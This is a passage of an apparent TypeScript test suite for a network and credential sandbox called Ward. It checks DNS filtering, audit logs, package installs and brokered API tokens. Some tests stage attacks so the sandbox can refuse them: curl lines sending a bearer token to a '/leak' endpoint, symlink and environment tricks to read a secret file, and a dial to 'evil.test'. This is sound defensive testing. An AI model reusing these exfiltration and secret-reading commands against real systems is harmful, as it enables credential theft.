      assert.match(d.detail, /the network relay stopped during the run \(SIGTERM: EINTR\)/);
      const conn = r.net.find((e) => e.kind === 'connect' && e.port === localPort && e.verdict === 'allow');
      assert.equal(conn?.bytes_in, 'LOCAL-DEV-SERVER\n'.length, 'the connection before it kept its count');
    } finally {
      clearInterval(watcher);
      for (const f of [connected, stopped]) rmSync(f, { force: true });
    }
  });

  it('every decision is in the audit log, between the run\'s launch and exit records, and the log verifies', async () => {
    const r = await py(`
import socket
for name in ['api.test', 'not-allowed.test']:
    try: socket.gethostbyname(name)
    except OSError: pass
`);
    assert.equal(r.exitCode, 0, r.out);
    const log = path.join(fx.home, '.local/state/ward/audit.jsonl');
    const records = readFileSync(log, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    const launchAt = records.findIndex((x) => x.type === 'launch' && JSON.stringify(x.argv).includes('not-allowed.test'));
    assert.ok(launchAt >= 0, 'the launch record is in the log');
    const runId = records[launchAt]!.run_id;
    const ofRun = records.filter((x) => x.run_id === runId).map((x) => `${String(x.type)}${x.type === 'net' ? ` ${String(x.verdict)} ${String(x.host)}` : ''}`);
    assert.equal(ofRun[0], 'launch');
    assert.equal(ofRun.at(-1), 'exit');
    assert.ok(ofRun.includes('net allow api.test'), ofRun.join(', '));
    assert.ok(ofRun.includes('net deny not-allowed.test'), ofRun.join(', '));
    const verified = ward(['audit', 'verify', log], { env: fx.env });
    assert.equal(verified.code, 0, verified.stdout + verified.stderr);
    const shown = ward(['audit', 'show', log], { env: fx.env });
    assert.match(shown.stdout, /net dns\s+not-allowed\.test A\s+DENIED \(not-allowed\)/);
  });

  it('the launch record names the egress path in force; nothing reached the stand-in internet but allowed requests', async () => {
    const r = await sandboxed(['true']);
    assert.deepEqual(r.launch.layers.network?.allow_local, [localPort]);
    assert.ok(r.launch.layers.network?.allow.includes(`api.test:${httpPort}`));
    for (const line of seen) assert.match(line, /^(api\.test|a\.b\.pkg\.test)(:\d+)? \//, line);
  });

  it('git clones over http from an allowed host', { skip: !which('git') && 'git is not installed' }, async () => {
    // A static file server is enough: git falls back to the dumb HTTP protocol for a bare
    // repository prepared with update-server-info.
    const repo = path.join(fx.ws, 'srv');
    mkdirSync(repo);
    execFileSync('git', ['init', '-q', '--bare', path.join(repo, 'r.git')]);
    const work = tempDir();
    execFileSync('sh', ['-c', `cd ${work} && git init -q && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m one && git push -q ${path.join(repo, 'r.git')} HEAD:refs/heads/main && cd ${path.join(repo, 'r.git')} && git symbolic-ref HEAD refs/heads/main && git update-server-info`]);
    const files = createHttp((req, res) => {
      try {
        res.end(readFileSync(path.join(repo, decodeURIComponent((req.url ?? '/').split('?')[0]!))));
      } catch {
        res.statusCode = 404;
        res.end();
      }
    });
    const port = await listen(files);
    const r = await sandboxed(['git', 'clone', '-q', `http://api.test:${port}/r.git`, 'cloned'], { extends: ['default'], network: { allow: [`api.test:${port}`] } } as PolicyFile);
    assert.equal(r.exitCode, 0, r.out);
    assert.match(execFileSync('git', ['-C', path.join(fx.ws, 'cloned'), 'log', '--format=%s']).toString(), /one/);
  });

  it('a brokered credential: the sandbox holds a placeholder; the real value is added on the way to its host only', async () => {
    const secretValue = `s3cr3t-${process.pid}-value`;
    const pol = {
      extends: ['default'],
      network: { allow: [`api.test:${authPort}`, `api.test:${httpPort}`] },
      secrets: { API_TOKEN: { from_env: 'WARD_TEST_TOKEN', hosts: [`api.test:${authPort}`], header: 'Authorization' } },
    } as PolicyFile;
    const go = (argv: string[]) =>
      run({ policy: pol }, argv, {
        workspace: fx.ws,
        env: { ...fx.env, WARD_TEST_TOKEN: secretValue },
        stdin: 'ignore',
        allowDegraded: !hasCgroup,
        egress: { resolve: async () => '127.0.0.1', upstreamCa: [testCa] },
      });
    authSeen.length = 0;
    const r = await go([
      'sh',
      '-c',
      [
        'echo "inside: $API_TOKEN"',
        'env | grep -c s3cr3t || true',
        // through the proxy, and raw (no proxy): curl trusts the run's CA through CURL_CA_BUNDLE
        `curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.test:${authPort}/proxy`,
        `curl -sS --noproxy '*' -H "Authorization: Bearer $API_TOKEN" https://api.test:${authPort}/raw`,
      ].join('; '),
    ]);
    const out = r.stdout.toString() + r.stderr.toString();
    assert.equal(r.exitCode, 0, out);
    assert.match(out, /^inside: ward-secret-API_TOKEN-[0-9a-f]{24}$/m);
    assert.match(out, /^0$/m, 'no variable inside holds the value');
    // The host echoes the header: it got the value (authSeen), and the echo reached the sandbox masked.
    assert.equal((out.match(new RegExp(`auth Bearer \\*{${secretValue.length}}\n`, 'g')) ?? []).length, 2, out);
    assert.doesNotMatch(out, new RegExp(secretValue), 'the value never came back inside');
    assert.deepEqual(authSeen, [`Bearer ${secretValue} -`, `Bearer ${secretValue} -`]);
    const carried = r.net.filter((e) => e.secrets?.includes('API_TOKEN') && e.verdict === 'allow');
    assert.equal(carried.length, 2, JSON.stringify(r.net));
    assert.doesNotMatch(JSON.stringify(r.net) + JSON.stringify(r.launch), new RegExp(secretValue), 'the value is in no record');
    assert.deepEqual(r.launch.layers.network?.secrets, [{ name: 'API_TOKEN', hosts: [`api.test:${authPort}`], source: 'env WARD_TEST_TOKEN' }]);

    authSeen.length = 0;
    const misuse = await go([
      'sh',
      '-c',
      [
        // to an allowed host that is not the credential's: refused where Ward can see it (plain HTTP)
        `curl -sS -o /dev/null -w "other %{http_code}\\n" -H "Authorization: Bearer $API_TOKEN" http://api.test:${httpPort}/leak`,
        `curl -sS --noproxy '*' -o /dev/null -w "other-raw %{http_code}\\n" -H "Authorization: Bearer $API_TOKEN" http://api.test:${httpPort}/leak || echo other-raw refused`,
        // to its host, but in another header than the one the policy names
        `curl -sS -o /dev/null -w "header %{http_code}\\n" -H "X-Other: $API_TOKEN" https://api.test:${authPort}/x || echo header refused`,
      ].join('; '),
    ]);
    const mout = misuse.stdout.toString() + misuse.stderr.toString();
    assert.match(mout, /^other 403$/m, mout);
    assert.match(mout, /other-raw (refused|000)/, mout);
    assert.match(mout, /header (refused|000)/, mout);
    assert.deepEqual(authSeen, [], 'the credential host saw no request');
    assert.ok(!seen.some((l) => l.includes('/leak')), 'the other host saw no request carrying the placeholder');
    const reasons = misuse.net.filter((e) => e.verdict === 'deny').map((e) => e.reason);
    assert.ok(reasons.includes('secret-to-other-host'), reasons.join(','));
    assert.ok(reasons.includes('secret-misuse'), reasons.join(','));
  });

  it('a brokered credential on a kept-alive connection: every request gets it, and a later one for another host is refused', async () => {
    const secretValue = `k33p-${process.pid}-value`;
    const pol = {
      extends: ['default'],
      network: { allow: [`api.test:${authPort}`] },
      secrets: { API_TOKEN: { from_env: 'WARD_TEST_TOKEN', hosts: [`api.test:${authPort}`], header: 'Authorization' } },
    } as PolicyFile;
    // One TLS connection (http.client keeps it), three requests: two for the host, then one
    // naming another Host, which a server serving several sites would route elsewhere.
    const script = `
import http.client, os
tok = os.environ['API_TOKEN']
c = http.client.HTTPSConnection('api.test', ${authPort})
for p in ['/one', '/two']:
    c.request('GET', p, headers={'Authorization': 'Bearer ' + tok})
    r = c.getresponse()
    print(r.status, r.read().decode().strip())
c.request('GET', '/three', headers={'Host': 'other.test', 'Authorization': 'Bearer ' + tok})
r = c.getresponse()
print(r.status, r.read().decode().strip())
`;
    authSeen.length = 0;
    const before = authConns;
    const r = await run({ policy: pol }, ['python3', '-c', script], {
      workspace: fx.ws,
      env: { ...fx.env, WARD_TEST_TOKEN: secretValue },
      stdin: 'ignore',
      allowDegraded: !hasCgroup,
      egress: { resolve: async () => '127.0.0.1', upstreamCa: [testCa] },
    });
    const out = r.stdout.toString() + r.stderr.toString();
    assert.equal(r.exitCode, 0, out);
    const lines = r.stdout.toString().trim().split('\n');
    const masked = '*'.repeat(secretValue.length); // the host echoes the header; the sandbox gets it masked
    assert.deepEqual(lines.slice(0, 2), [`200 auth Bearer ${masked}`, `200 auth Bearer ${masked}`], out);
    assert.match(lines[2] ?? '', /^403 ward: this connection goes to api\.test:\d+, and a request on it names other\.test/, out);
    assert.deepEqual(authSeen, [`Bearer ${secretValue} -`, `Bearer ${secretValue} -`], 'the host saw two requests, each with the value');
    assert.equal(authConns - before, 1, 'the two requests shared one upstream connection');
    const http = r.net.filter((e) => e.kind === 'http');
    assert.deepEqual(http.map((e) => `${e.verdict} ${e.path}${e.reason ? ` ${e.reason}` : ''}`), ['allow /one', 'allow /two', 'deny /three host-mismatch'], JSON.stringify(r.net));
    assert.doesNotMatch(JSON.stringify(r.net), new RegExp(secretValue), 'the value is in no record');
  });

  it('a brokered credential must name allowed hosts, and its file must not be readable inside', async () => {
    const base = { extends: ['default'], network: { allow: ['api.test:443'] } };
    await assert.rejects(
      run({ policy: { ...base, secrets: { T: { from_env: 'X', hosts: ['other.test:443'] } } } as PolicyFile }, ['true'], { workspace: fx.ws, env: fx.env }),
      /other\.test:443" is not in network\.allow/,
    );
    await assert.rejects(
      run({ policy: { ...base, secrets: { T: { from_file: '${WORKSPACE}/token', hosts: ['api.test:443'] } } } as PolicyFile }, ['true'], { workspace: fx.ws, env: fx.env }),
      /\/token is visible inside the sandbox through the grant of/,
    );
    await assert.rejects(
      run({ policy: { ...base, secrets: { T: { from_env: 'WARD_UNSET_VARIABLE', hosts: ['api.test:443'] } } } as PolicyFile }, ['true'], { workspace: fx.ws, env: fx.env, allowDegraded: !hasCgroup }),
      /\$WARD_UNSET_VARIABLE is not set/,
    );
  });

  it('a brokered credential\'s real value never reaches the sandbox: not through a link to a granted file, a granted link to its directory, or a variable it is given', async () => {
    const value = `r3al-${process.pid}-value`;
    const outside = tempDir();
    const vault = path.join(outside, 'vault');
    mkdirSync(vault);
    writeFileSync(path.join(fx.ws, '.tok'), `${value}\n`);
    writeFileSync(path.join(vault, 'tok'), `${value}\n`);
    symlinkSync(path.join(fx.ws, '.tok'), path.join(outside, 'toklink'));
    symlinkSync(vault, path.join(outside, 'vaultlink'));
    // minimal sets no limits: no cgroup is needed (and it does not allow degraded runs).
    const base = { extends: ['minimal'], filesystem: { write: ['${WORKSPACE}'] }, network: { allow: ['api.test:443'] } };
    const secret = (s: Record<string, unknown>) => ({ API: { hosts: ['api.test:443'], header: 'Authorization', ...s } });
    // Each attack reads the value inside if the policy is accepted; each policy must be refused before anything runs.
    const attacks: [string, Record<string, unknown>, RegExp][] = [
      ['from_file names a link (outside every grant) to a file in the workspace', { ...base, secrets: secret({ from_file: path.join(outside, 'toklink') }) }, /toklink \(really \S+\/ws\/\.tok\) is visible inside the sandbox through the grant of \S+\/ws/],
      ['a granted link to the directory of from_file', { ...base, filesystem: { write: ['${WORKSPACE}'], read: [path.join(outside, 'vaultlink')] }, secrets: secret({ from_file: path.join(vault, 'tok') }) }, /vault\/tok is visible inside the sandbox through the grant of \S+\/vault\b/],
      ['from_file named through a link inside a writable grant', { ...base, secrets: secret({ from_file: '${WORKSPACE}/vaultlink/tok' }) }, /vaultlink\/tok lies inside the grant of \S+\/ws: the sandbox could point it at another file/],
      ['env.pass names the secret\'s from_env', { ...base, env: { pass: ['REAL_GH_TOKEN'] }, secrets: secret({ from_env: 'REAL_GH_TOKEN' }) }, /\$REAL_GH_TOKEN is passed into the sandbox \(env\.pass/],
      ['env.set sets the secret\'s from_env', { ...base, env: { set: { REAL_GH_TOKEN: 'x' } }, secrets: secret({ from_env: 'REAL_GH_TOKEN' }) }, /\$REAL_GH_TOKEN is also set by env\.set/],
      ['from_env names a variable Ward always passes', { ...base, secrets: secret({ from_env: 'LANG' }) }, /\$LANG is passed into the sandbox/],
    ];
    symlinkSync(vault, path.join(fx.ws, 'vaultlink'));
    try {
      for (const [what, policy, problem] of attacks) {
        const env = { ...fx.env, REAL_GH_TOKEN: value, LANG: value };
        const r = run({ policy: policy as PolicyFile }, ['sh', '-c', `env; cat .tok "${vault}/tok" "${path.join(outside, 'toklink')}" vaultlink/tok 2>/dev/null; true`], { workspace: fx.ws, env, stdin: 'ignore' });
        const out = await r.then((x) => x.stdout.toString() + x.stderr.toString(), (e: Error) => e);
        assert.ok(out instanceof PolicyError, `${what}: ran, and the sandbox ${typeof out === 'string' && out.includes(value) ? 'saw the value' : 'was not refused'}`);
        assert.match(out.message, problem, what);
        assert.match(out.fix ?? '', /outside every granted path|filesystem\.deny|env\.pass|env\.set|another variable|variable the sandbox is not given/, what);
      }
      // The same credential file, outside every grant and named by a link outside too, is accepted.
      const ok = await run({ policy: { ...base, secrets: secret({ from_file: path.join(outside, 'vaultlink', 'tok') }) } as PolicyFile }, ['sh', '-c', 'echo "$API"; cat vaultlink/tok 2>&1 || true'], { workspace: fx.ws, env: fx.env, stdin: 'ignore', egress: { resolve: async () => '127.0.0.1' } });
      assert.match(ok.stdout.toString(), /^ward-secret-API-[0-9a-f]{24}$/m);
      assert.doesNotMatch(ok.stdout.toString(), new RegExp(value));
    } finally {
      rmSync(path.join(fx.ws, 'vaultlink'));
      rmSync(path.join(fx.ws, '.tok'));
    }
  });

  it('npm installs a package from an allowed registry (npm uses the proxy variables)', async () => {
    // A one-package registry: metadata and a tarball in npm's layout (everything under package/).
    const src = tempDir();
    mkdirSync(path.join(src, 'package'));
    writeFileSync(path.join(src, 'package', 'package.json'), JSON.stringify({ name: 'ward-demo', version: '1.0.0', main: 'index.js' }));
    writeFileSync(path.join(src, 'package', 'index.js'), "module.exports = 'ward-demo works';\n");
    const tgzName = 'ward-demo-1.0.0.tgz';
    execFileSync('tar', ['-czf', tgzName, 'package'], { cwd: src });
    const tgz = readFileSync(path.join(src, tgzName));
    const integrity = `sha512-${createHash('sha512').update(tgz).digest('base64')}`;
    let port = 0;
    const registry = createHttp((req, res) => {
      if (req.url === '/ward-demo') {
        res.setHeader('content-type', 'application/json');
        res.end(JSON.stringify({ name: 'ward-demo', 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': { name: 'ward-demo', version: '1.0.0', dist: { tarball: `http://npm.test:${port}/ward-demo/-/${tgzName}`, integrity } } } }));
      } else if (req.url === `/ward-demo/-/${tgzName}`) {
        res.end(tgz);
      } else {
        res.statusCode = 404;
        res.end('{}');
      }
    });
    port = await listen(registry);
    const proj = path.join(fx.ws, 'npm-proj');
    mkdirSync(proj);
    writeFileSync(path.join(proj, 'package.json'), JSON.stringify({ name: 'p', version: '1.0.0' }));
    const r = await sandboxed(['sh', '-c', `cd npm-proj && npm install --registry http://npm.test:${port}/ --no-audit --no-fund --loglevel=error ward-demo && node -e "console.log(require('ward-demo'))"`], { extends: ['default'], network: { allow: [`npm.test:${port}`] } } as PolicyFile);
    const out = r.out;
    assert.equal(r.exitCode, 0, out);
    assert.match(out, /ward-demo works/);
    assert.ok(r.net.some((e) => e.verdict === 'allow' && e.host === 'npm.test'), JSON.stringify(r.net));
  });

  it('pip installs a wheel from an allowed HTTPS index (pip uses the proxy variables: CONNECT, carried by the relay)', { skip: !pipWorks() && 'python3 -m pip is not available' }, async () => {
    // A one-package "simple" index (PEP 503) and a pure-Python wheel built here, with its RECORD.
    const src = tempDir();
    const wheelName = 'wardprobe-1.0-py3-none-any.whl';
    execFileSync('python3', ['-c', `
import base64, hashlib, zipfile, sys
files = {
  'wardprobe/__init__.py': b"MESSAGE = 'wardprobe works'\\n",
  'wardprobe-1.0.dist-info/METADATA': b'Metadata-Version: 2.1\\nName: wardprobe\\nVersion: 1.0\\n',
  'wardprobe-1.0.dist-info/WHEEL': b'Wheel-Version: 1.0\\nGenerator: ward-test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n',
}
record = ''.join('%s,sha256=%s,%d\\n' % (n, base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b'=').decode(), len(d)) for n, d in files.items())
files['wardprobe-1.0.dist-info/RECORD'] = (record + 'wardprobe-1.0.dist-info/RECORD,,\\n').encode()
with zipfile.ZipFile(sys.argv[1], 'w') as z:
    for n, d in files.items(): z.writestr(n, d)
`, path.join(src, wheelName)]);
    const wheel = readFileSync(path.join(src, wheelName));
    const sha = createHash('sha256').update(wheel).digest('hex');
    // The test certificate names api.test: the index is served there, over TLS, as PyPI is.
    const index = createHttps({ key: testKey, cert: testCa }, (req, res) => {
      if (req.url === '/simple/wardprobe/') {
        res.setHeader('content-type', 'text/html');
        res.end(`<!DOCTYPE html><html><body><a href="/files/${wheelName}#sha256=${sha}">${wheelName}</a></body></html>`);
      } else if (req.url === `/files/${wheelName}`) {
        res.end(wheel);
      } else {
        res.statusCode = 404;
        res.end('not here');
      }
    });
    const port = await listen(index);
    const r = await sandboxed(['sh', '-c', `python3 -m pip install --disable-pip-version-check --no-cache-dir --quiet --cert ca.pem --target pip-target --index-url https://api.test:${port}/simple/ wardprobe && PYTHONPATH=pip-target python3 -c "import wardprobe; print(wardprobe.MESSAGE)"`], { extends: ['default'], network: { allow: [`api.test:${port}`] } } as PolicyFile);
    const out = r.out;
    assert.equal(r.exitCode, 0, out);
    assert.match(out, /wardprobe works/);
    // pip went through the proxy (CONNECT): an allowed proxy record with the relay's byte count.
    const conn = r.net.find((e) => e.kind === 'proxy' && e.verdict === 'allow' && e.host === 'api.test' && e.port === port);
    assert.ok(conn && (conn.bytes_in ?? 0) > wheel.length && conn.note === undefined, JSON.stringify(r.net));
  });

  it('Go: a raw client (no proxy, pure-Go DNS) and the default client (proxy variables) reach an allowed name; another name does not resolve', { skip: !which('go') && 'go is not installed' }, async () => {
    const src = tempDir();
    writeFileSync(
      path.join(src, 'main.go'),
      `package main

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
)

func get(name string, c *http.Client, url string) {
	r, err := c.Get(url)
	if err != nil {
		fmt.Println(name, "error", err)
		return
	}
	b, _ := io.ReadAll(r.Body)
	fmt.Println(name, string(b))
}

func main() {
	get("raw", &http.Client{Transport: &http.Transport{Proxy: nil}}, os.Args[1])
	get("proxy", http.DefaultClient, os.Args[2])
	if _, err := net.Dial("tcp", os.Args[3]); err != nil {
		fmt.Println("other", err)
	} else {
		fmt.Println("other CONNECTED")
	}
}
`,
    );
    // Built outside (the sandbox has no Go cache to write); CGO off: Go's own resolver, which
    // reads /etc/resolv.conf and asks the DNS server itself, as a static Go binary does.
    execFileSync('go', ['build', '-o', path.join(fx.ws, 'goget'), 'main.go'], { cwd: src, stdio: 'pipe', env: { ...process.env, CGO_ENABLED: '0', GOCACHE: path.join(src, 'cache'), GOPATH: path.join(src, 'gopath'), HOME: src, GO111MODULE: 'off' } });
    const r = await sandboxed(['./goget', `http://api.test:${httpPort}/go-raw`, `http://api.test:${httpPort}/go-proxy`, `evil.test:${httpPort}`]);
    assert.equal(r.exitCode, 0, r.out);
    assert.match(r.out, /^raw hello \/go-raw$/m);
    assert.match(r.out, /^proxy hello \/go-proxy$/m);
    assert.match(r.out, /^other .*no such host/m);
    assert.ok(r.net.some((e) => e.kind === 'connect' && e.verdict === 'allow' && e.host === 'api.test' && e.port === httpPort), 'the raw request went through DNS and the relay');
    assert.ok(r.net.some((e) => e.kind === 'proxy' && e.verdict === 'allow' && e.host === 'api.test' && e.port === httpPort), 'the default client used the proxy');
    assert.ok(r.net.some((e) => e.kind === 'dns' && e.verdict === 'deny' && e.host === 'evil.test'), JSON.stringify(r.net));
  });

  it('Java (which ignores the proxy variables) reaches an allowed name through DNS and the relay', { skip: !which('java') && 'java is not installed' }, async () => {
    writeFileSync(
      path.join(fx.ws, 'Get.java'),
      `public class Get { public static void main(String[] a) throws Exception {
  var c = (java.net.HttpURLConnection) java.net.URI.create(a[0]).toURL().openConnection(java.net.Proxy.NO_PROXY);
  System.out.println(new String(c.getInputStream().readAllBytes()).trim());
} }\n`,
    );
    const r = await sandboxed(['java', '-Xshare:off', '-XX:TieredStopAtLevel=1', 'Get.java', `http://api.test:${httpPort}/java`]);
    assert.equal(r.exitCode, 0, r.out);
    assert.match(r.out, /hello \/java/);
  });
});
